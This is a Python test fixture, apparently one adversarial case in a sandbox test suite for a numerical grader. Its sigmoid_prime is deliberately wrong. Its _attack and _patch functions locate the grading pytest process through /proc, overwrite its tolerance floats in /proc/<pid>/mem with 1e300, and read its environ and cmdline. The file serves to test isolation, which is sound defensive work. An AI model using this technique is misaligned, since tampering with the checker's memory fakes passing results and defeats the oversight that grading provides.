"""Attack: rewrite the checker's tolerances in the pytest process's memory.

At its first call it finds the pytest process that judges it (its parent, or any
process whose command line names this file), opens /proc/<pid>/mem, and overwrites
every float 1e-9, 1e-12 and 1e-7 in that process's writable memory (the suite's
relative and absolute tolerances and its finite-difference tolerance) with 1e300, so
that any answer is "within tolerance". It also tries to read /proc/<pid>/environ and
/proc/<pid>/cmdline.

Its sigmoid_prime is wrong (half the derivative). Isolated, /proc shows only the
worker's own namespace, the worker has no capabilities (no CAP_SYS_PTRACE) and the
pytest process is not dumpable: nothing is found or written, and both sigmoid_prime
checks fail.
"""
import os
import struct

import numpy as np

EXPECT_STATUS = 1
EXPECT_REASON = "differ from the spec"
MUST_FAIL = ["derivative sigmoid_prime"]
FALLBACK = True
ME = os.path.realpath(__file__)
PATTERNS = [struct.pack("<d", x) for x in (1e-9, 1e-12, 1e-7)]
HUGE = struct.pack("<d", 1e300)
_done = []


def _judging_me(pid):
    """pid's command line if it names this very file (relative to its working directory),
    else None: the module never touches another run on the same machine."""
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as fh:
            argv = fh.read().decode(errors="replace").split("\0")
        cwd = os.readlink(f"/proc/{pid}/cwd")
    except OSError:
        return None
    for arg in argv:
        arg = arg.split("=", 1)[-1]
        if arg.endswith(os.path.basename(ME)) and os.path.realpath(os.path.join(cwd, arg)) == ME:
            return argv
    return None


def _judges():
    found = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        argv = _judging_me(entry)
        if argv is not None and any("pytest" in a for a in argv):
            found.append(int(entry))
    return found


def _patch(pid):
    patched = 0
    try:
        maps = open(f"/proc/{pid}/maps").read().splitlines()
        mem = open(f"/proc/{pid}/mem", "r+b", buffering=0)
    except OSError:
        return 0
    with mem:
        for line in maps:
            fields = line.split()
            if len(fields) < 2 or not fields[1].startswith("rw") or (len(fields) > 5 and fields[5].startswith("[v")):
                continue
            start, end = (int(x, 16) for x in fields[0].split("-"))
            if end - start > 1 << 30:
                continue
            try:
                mem.seek(start)
                data = mem.read(end - start)
            except OSError:
                continue
            for pattern in PATTERNS:
                at = data.find(pattern)
                while at != -1:
                    if at % 8 == 0:
                        try:
                            mem.seek(start + at)
                            mem.write(HUGE)
                            patched += 1
                        except OSError:
                            pass
                    at = data.find(pattern, at + 1)
    return patched


def _attack():
    if _done:
        return
    _done.append(True)
    for pid in _judges():
        if pid == os.getpid():
            continue  # in-process (--deltaspec-no-isolate) it could simply patch itself; not the point here
        for name in ("environ", "cmdline"):
            try:
                open(f"/proc/{pid}/{name}", "rb").read()
            except OSError:
                pass
        _patch(pid)


def sigmoid(z):
    z = np.asarray(z)
    e = np.exp(-np.abs(z))
    return np.where(z >= 0, 1 / (1 + e), e / (1 + e))


def sigmoid_prime(z):
    _attack()
    s = sigmoid(z)
    return 0.5 * s * (1 - s)  # WRONG: half the derivative
